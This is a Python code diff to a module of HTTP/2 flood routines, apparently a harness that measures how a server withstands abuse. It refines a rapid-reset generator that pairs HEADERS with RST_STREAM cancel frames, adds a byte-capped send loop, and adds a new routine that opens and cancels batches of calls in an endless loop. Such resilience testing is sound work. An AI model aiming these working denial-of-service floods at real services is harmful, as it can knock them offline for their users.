@@ -27,6 +27,7 @@ BLOCK = 500
 UNDER_WAY = 100
 """Calls that a hasty client has open at once."""
 
+_CANCELLED = struct.pack(">I", 8)
 _WIDE = struct.pack(">I", 1 << 30)
 
 
@@ -91,10 +92,9 @@ def _string(text: str) -> bytes:
 
 def _resets() -> Iterator[bytes]:
     head = call_head(NONCE)
-    cancelled = struct.pack(">I", 8)
     for first in itertools.count(1, 2 * BLOCK):
         ids = range(first, first + 2 * BLOCK, 2)
-        calls = (frame(HEADERS, END_HEADERS, n, head) + frame(RST, 0, n, cancelled) for n in ids)
+        calls = (frame(HEADERS, END_HEADERS, n, head) + frame(RST, 0, n, _CANCELLED) for n in ids)
         yield b"".join(calls)
 
 
@@ -123,24 +123,31 @@ FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
 
 
 def pour(line: socket.socket, name: str, most: int) -> int:
-    """Send a flood until the server breaks it off, or has taken `most` bytes; say how many."""
+    """Send a flood until the server breaks it off or has taken `most` bytes; say how many.
+
+    It is given up when nothing is taken for as long as the socket's timeout.
+    """
     sent = 0
     with contextlib.suppress(ConnectionError, TimeoutError):
-        line.sendall(opening())
-        for block in FLOODS[name]():
-            line.sendall(block)
-            sent += len(block)
-            if sent >= most or _is_over(line):
+        for block in itertools.chain([opening()], FLOODS[name]()):
+            if sent >= most or not _send(line, block):
                 break
+            sent += len(block)
     return sent
 
 
-def _is_over(line: socket.socket) -> bool:
-    """Read what the server has said so far; tell whether that was all."""
-    while select.select([line], [], [], 0)[0]:
-        if not line.recv(1 << 16):
-            return True
-    return False
+def _send(line: socket.socket, block: bytes) -> bool:
+    """Send a block and read what the server says meanwhile; tell whether it may say more."""
+    rest = memoryview(block)
+    while rest:
+        readable, writable, _ = select.select([line], [line], [], line.gettimeout())
+        if not readable and not writable:
+            raise TimeoutError
+        if readable and not line.recv(1 << 16):
+            return False
+        if writable:
+            rest = rest[line.send(rest) :]
+    return True
 
 
 async def flood(way: Way, name: str) -> None:
@@ -159,7 +166,8 @@ async def flood(way: Way, name: str) -> None:
                         break
             finally:
                 reading.cancel()
-                writer.close()
+                # What is not sent yet would keep a connection open that is closed only.
+                writer.transport.abort()
 
 
 async def hurry(way: Way, head: bytes, body: bytes) -> None:
@@ -176,7 +184,24 @@ async def hurry(way: Way, head: bytes, body: bytes) -> None:
                     await writer.drain()
                     over = await endings.some()
             finally:
-                writer.close()
+                writer.transport.abort()
+
+
+async def regret(way: Way) -> None:
+    """Make calls, take them all back when one is answered, and come again, for ever."""
+    ids, head = range(1, UNDER_WAY, 2), call_head(NONCE)
+    while True:
+        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
+            reader, writer = await way.open()
+            try:
+                writer.write(
+                    opening() + b"".join(_call(number, head, message(b"")) for number in ids)
+                )
+                await _Endings(reader).some()
+                writer.write(b"".join(frame(RST, 0, number, _CANCELLED) for number in ids))
+                await writer.drain()
+            finally:
+                writer.transport.abort()
 
 
 async def hoard(way: Way, many: int, beginning: bytes, drip: bytes) -> None:
